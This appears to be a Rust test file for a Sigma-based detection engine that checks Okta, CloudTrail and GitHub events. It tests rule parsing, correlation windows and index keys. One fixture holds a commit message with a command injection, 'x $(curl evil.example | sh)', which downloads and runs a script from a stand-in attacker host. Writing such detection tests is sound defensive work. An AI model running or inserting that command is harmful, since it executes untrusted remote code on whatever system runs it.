use super::*;

fn rule(title: &str, id: &str, body: &str) -> String {
    format!("title: {title}\nid: {id}\nlogsource: {{product: okta, service: okta}}\n{body}")
}

fn event(id: &str, time: &str, attrs: serde_json::Value) -> Event {
    serde_json::from_value(serde_json::json!({
        "id": id, "time": time, "source": "okta",
        "actor": {"id": "a", "type": "human"}, "system": "okta", "action": "x",
        "attributes": attrs
    }))
    .unwrap()
}

#[test]
fn rules_not_taken_say_why_and_which() {
    let good =
        "title: ok\nlogsource: {product: okta}\ndetection:\n  s: {eventType: x}\n  condition: s\n";
    let text = [
        good,
        "title: broken\n  : [unclosed\n",
        "title: meta only\nid: abc\nlogsource: {product: aws, service: cloudtrail}\n",
        "title: corr\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 1h\n  condition: {gte: 3}\n",
        "title: windows\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s: {Image|endswith: '\\\\cmd.exe'}\n  condition: s\n",
        "title: bad modifier\nlogsource: {product: okta}\ndetection:\n  s: {eventType|nosuchmodifier: x}\n  condition: s\n",
        "title: bad condition\nlogsource: {product: okta}\ndetection:\n  s: {eventType: x}\n  condition: s and nothere\n",
    ]
    .join("---\n");
    let (rules, errors) = parse_all(&text);
    assert_eq!(rules.len(), 1);
    let why: Vec<(&str, String)> = errors
        .iter()
        .map(|e| (e.rule.as_str(), e.why.to_string()))
        .collect();
    assert_eq!(why.len(), 6, "{why:?}");
    assert_eq!(why[0].0, "document 2");
    assert!(why[0].1.starts_with("not YAML"), "{why:?}");
    assert_eq!(why[1].0, "meta only (abc)");
    assert!(why[1].1.starts_with("not a detection rule"), "{why:?}");
    // Reported after the documents: a correlation is checked against every rule taken.
    assert!(
        why[5].1.starts_with("correlation names rule `x`"),
        "{why:?}"
    );
    assert!(why[2].1.contains("product `windows`"), "{why:?}");
    assert!(why[3].1.starts_with("unsupported"), "{why:?}");
    assert!(why[4].1.starts_with("unsupported"), "{why:?}");
}

#[test]
fn a_broken_rule_fails_the_call_naming_it() {
    let mut cfg = std::collections::BTreeMap::new();
    cfg.insert(
        "rules".to_string(),
        format!(
            "{}---\ntitle: Half written\nlogsource: {{product: okta}}\ndetection:\n  s: {{eventType|nosuch: x}}\n  condition: s\n",
            rule("ok", "r1", "detection:\n  s: {eventType: x}\n  condition: s\n")
        ),
    );
    let err = Rules::from_config(&cfg).err().expect("refused");
    assert!(
        err.message
            .starts_with("sigma rule `Half written`: unsupported"),
        "{}",
        err.message
    );
    cfg.insert("rules".into(), String::new());
    assert!(Rules::from_config(&cfg).is_err());
}

#[test]
fn raw_fields_win_over_mapped_ones() {
    let e: Event = serde_json::from_value(serde_json::json!({
        "id": "e1", "time": "2026-11-25T09:00:00Z", "source": "cloudtrail",
        "actor": {"id": "a", "type": "human"}, "system": "s", "action": "x",
        "attributes": {"eventName": "mapped", "raw.eventName": "StopLogging", "bucket": "b"}
    }))
    .unwrap();
    let r = record(&e);
    assert_eq!(r["eventName"], "StopLogging");
    assert_eq!(r["bucket"], "b");
    assert!(r.get("raw.eventName").is_none());
}

#[test]
fn flattened_records_are_nested_again_with_their_arrays() {
    let e = event(
        "e1",
        "2026-11-25T09:00:00Z",
        serde_json::json!({
            "raw.requestParameters.launchPermission.add.items.0.group": "all",
            "raw.requestParameters.launchPermission.add.items.1.userId": "123",
            "raw.commits.0.message": "docs",
            "raw.commits.1.message": "x $(curl evil.example | sh)",
            "raw.flat.0": "a",
            "raw.flat.2": "c",
            "raw.a": "scalar",
            "raw.a.b": "kept under its rest",
        }),
    );
    let r = record(&e);
    assert_eq!(
        r["requestParameters"]["launchPermission"]["add"]["items"][0]["group"],
        "all"
    );
    assert_eq!(r["commits"][1]["message"], "x $(curl evil.example | sh)");
    // Keys 0 and 2 only: not an array.
    assert_eq!(r["flat"]["2"], "c");
    assert_eq!(r["a"], "scalar");
    let (set, errors) = parse_all(&[
        rule("any item", "r1", "detection:\n  s: {requestParameters.launchPermission.add.items.group: all}\n  condition: s\n"),
        rule("any commit", "r2", "detection:\n  s: {commits.message|contains: '$('}\n  condition: s\n"),
    ].join("---\n"));
    assert!(errors.is_empty(), "{errors:?}");
    assert!(set.rules.iter().all(|r| r.matches(&record(&e))));
}

fn correlated(condition: &str, generate: bool) -> RuleSet {
    let text = [
        rule("denied", "deny-1", "detection:\n  s: {eventType: user.session.start, outcome.result: FAILURE}\n  condition: s\nlevel: low\n"),
        format!("title: many denials\nid: corr-1\ncorrelation:\n  type: event_count\n  rules: [deny-1]\n  group-by: [client.ipAddress]\n  timespan: 10m\n  condition: {condition}\n  generate: {generate}\nlevel: high\n"),
    ]
    .join("---\n");
    let (set, errors) = parse_all(&text);
    assert!(errors.is_empty(), "{errors:?}");
    set
}

fn denial(id: &str, time: &str, ip: &str) -> Event {
    event(
        id,
        time,
        serde_json::json!({"raw.eventType": "user.session.start", "raw.outcome.result": "FAILURE", "raw.client.ipAddress": ip}),
    )
}

#[test]
fn an_event_count_correlation_fires_per_group_within_its_timespan() {
    let set = correlated("{gte: 3}", false);
    let events = vec![
        denial("e1", "2026-11-25T09:00:00Z", "203.0.113.9"),
        denial("e2", "2026-11-25T09:01:00Z", "203.0.113.9"),
        denial("e3", "2026-11-25T09:02:00Z", "198.51.100.7"),
        // 20 minutes later: e1 and e2 are out of the window.
        denial("e4", "2026-11-25T09:21:00Z", "203.0.113.9"),
        denial("e5", "2026-11-25T09:22:00Z", "203.0.113.9"),
        denial("e6", "2026-11-25T09:23:00Z", "203.0.113.9"),
    ];
    let out = findings(&set, &events).unwrap();
    // The denials alone say nothing: the rule only feeds the correlation.
    assert_eq!(out.len(), 1, "{out:?}");
    let f = &out[0];
    assert_eq!(f.signal, CORRELATION_SIGNAL);
    assert_eq!(f.severity, 3);
    assert!(f.title.contains("many denials [corr-1]"), "{}", f.title);
    assert!(f.title.contains("203.0.113.9"), "{}", f.title);
    assert_eq!(f.evidence, ["e4", "e5", "e6"]);
    // Two in the window: nothing.
    assert!(findings(&set, &events[..5]).unwrap().is_empty());
    // Out of order in, time order judged.
    let mut shuffled = events.clone();
    shuffled.reverse();
    assert_eq!(findings(&set, &shuffled).unwrap().len(), 1);
}

#[test]
fn generate_true_keeps_the_rules_own_findings() {
    let set = correlated("{gte: 3}", true);
    assert!(!set.correlation_only(&set.rules[0]));
    let events = vec![denial("e1", "2026-11-25T09:00:00Z", "203.0.113.9")];
    let out = findings(&set, &events).unwrap();
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].signal, SIGNAL);
    assert_eq!(out[0].severity, 1);
}

#[test]
fn a_temporal_correlation_needs_every_rule_in_the_window() {
    let text = [
        rule("reset", "reset-1", "detection:\n  s: {eventType: user.mfa.factor.reset_all}\n  condition: s\n"),
        rule("login", "login-1", "detection:\n  s: {eventType: user.session.start, outcome.result: SUCCESS}\n  condition: s\n"),
        "title: reset then login\nid: corr-2\ncorrelation:\n  type: temporal_ordered\n  rules: [reset-1, login-1]\n  group-by: [target.alternateId]\n  timespan: 1h\nlevel: high\n".to_string(),
    ]
    .join("---\n");
    let (set, errors) = parse_all(&text);
    assert!(errors.is_empty(), "{errors:?}");
    let ev = |id: &str, time: &str, kind: &str, user: &str| {
        event(
            id,
            time,
            serde_json::json!({"raw.eventType": kind, "raw.outcome.result": "SUCCESS", "raw.target.alternateId": user}),
        )
    };
    let fired = findings(
        &set,
        &[
            ev(
                "r",
                "2026-11-25T09:00:00Z",
                "user.mfa.factor.reset_all",
                "bob@acme.example",
            ),
            ev(
                "l",
                "2026-11-25T09:10:00Z",
                "user.session.start",
                "bob@acme.example",
            ),
        ],
    )
    .unwrap();
    assert_eq!(fired.len(), 1, "{fired:?}");
    assert_eq!(fired[0].evidence, ["r", "l"]);
    // Another user's login, or the login first: nothing.
    assert!(findings(
        &set,
        &[
            ev(
                "r",
                "2026-11-25T09:00:00Z",
                "user.mfa.factor.reset_all",
                "bob@acme.example"
            ),
            ev(
                "l",
                "2026-11-25T09:10:00Z",
                "user.session.start",
                "carol@acme.example"
            ),
        ]
    )
    .unwrap()
    .is_empty());
    assert!(findings(
        &set,
        &[
            ev(
                "l",
                "2026-11-25T09:00:00Z",
                "user.session.start",
                "bob@acme.example"
            ),
            ev(
                "r",
                "2026-11-25T09:10:00Z",
                "user.mfa.factor.reset_all",
                "bob@acme.example"
            ),
        ]
    )
    .unwrap()
    .is_empty());
}

#[test]
fn webhook_rules_read_webhooks_not_the_audit_log() {
    let t = Target::of(Some("github"), Some("webhook")).unwrap();
    let mut e = event(
        "e1",
        "2026-11-25T09:00:00Z",
        serde_json::json!({"head_commit.message": "derived events repeat this"}),
    );
    e.source = "github".into();
    // A derived event of a delivery: no record of its own.
    assert!(!t.reads(&e));
    e.attributes
        .insert("raw.sha256".into(), AttributeValue::Text("ab".into()));
    assert!(t.reads(&e));
    e.attributes.insert(
        "source_feed".into(),
        AttributeValue::Text("audit-log".into()),
    );
    assert!(!t.reads(&e));
    assert!(Target::of(Some("github"), Some("audit")).unwrap().reads(&e));
}

#[test]
fn rules_bound_to_their_sources_key_field_are_indexed_by_it() {
    let ct = |detection: &str| {
        format!(
            "title: t\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n{detection}"
        )
    };
    let keys = |text: String| -> Option<Vec<String>> {
        let (set, errors) = parse_all(&text);
        assert!(errors.is_empty(), "{errors:?}");
        index::required_keys(&set.rules[0]).map(|k| k.into_iter().collect())
    };
    let want = |v: &[&str]| Some(v.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    assert_eq!(
        keys(ct("  s: {eventName: [StopLogging, DeleteTrail]}\n  f: {userIdentity.type: Root}\n  condition: s and not f\n")),
        want(&["deletetrail", "stoplogging"])
    );
    assert_eq!(
        keys(ct(
            "  s1: {eventName: A}\n  s2: {eventName: B, x: 1}\n  condition: 1 of s*\n"
        )),
        want(&["a", "b"])
    );
    // Unbound: a branch without the field, a wildcard, a modifier, a negation, keywords.
    assert_eq!(
        keys(ct(
            "  s1: {eventName: A}\n  s2: {errorCode: AccessDenied}\n  condition: s1 or s2\n"
        )),
        None
    );
    assert_eq!(
        keys(ct("  s: {eventName: Delete*}\n  condition: s\n")),
        None
    );
    assert_eq!(
        keys(ct("  s: {eventName|startswith: Delete}\n  condition: s\n")),
        None
    );
    assert_eq!(keys(ct("  s: {eventName: A}\n  condition: not s\n")), None);
    // A list of maps is one of them: bound only if each is.
    assert_eq!(
        keys(ct(
            "  s:\n    - {eventName: A}\n    - {eventName: B, y: 2}\n  condition: s\n"
        )),
        want(&["a", "b"])
    );
    assert_eq!(
        keys(ct(
            "  s: {eventName: A}\n  t: {eventSource: x}\n  condition: all of them\n"
        )),
        want(&["a"])
    );
    // Webhook rules have no key field.
    let (set, _) = parse_all("title: w\nlogsource: {product: github, service: webhook}\ndetection:\n  s: {action: opened}\n  condition: s\n");
    assert_eq!(index::required_keys(&set.rules[0]), None);
    // The event's value: its raw record's, lowercased.
    let e = event(
        "e1",
        "2026-11-25T09:00:00Z",
        serde_json::json!({"raw.eventType": "User.Session.Start"}),
    );
    let okta = Target::of(Some("okta"), None).unwrap();
    assert_eq!(
        index::key_value(&okta, &e).as_deref(),
        Some("user.session.start")
    );
}

#[test]
fn several_rules_on_one_event_give_one_finding_at_the_highest_level() {
    let text = [
        rule("sign-in", "r1", "detection:\n  s: {eventType: user.session.start}\n  condition: s\nlevel: low\n"),
        rule("sign-in from a proxy", "r2", "detection:\n  s: {eventType: user.session.start, securityContext.isProxy: true}\n  condition: s\nlevel: high\n"),
    ]
    .join("---\n");
    let (set, errors) = parse_all(&text);
    assert!(errors.is_empty(), "{errors:?}");
    let e = event(
        "e1",
        "2026-11-25T09:00:00Z",
        serde_json::json!({"raw.eventType": "user.session.start", "raw.securityContext.isProxy": true}),
    );
    let out = findings(&set, &[e]).unwrap();
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].severity, 3);
    assert!(
        out[0]
            .title
            .contains("sign-in from a proxy [r2] (+1 more rule(s))"),
        "{}",
        out[0].title
    );
}
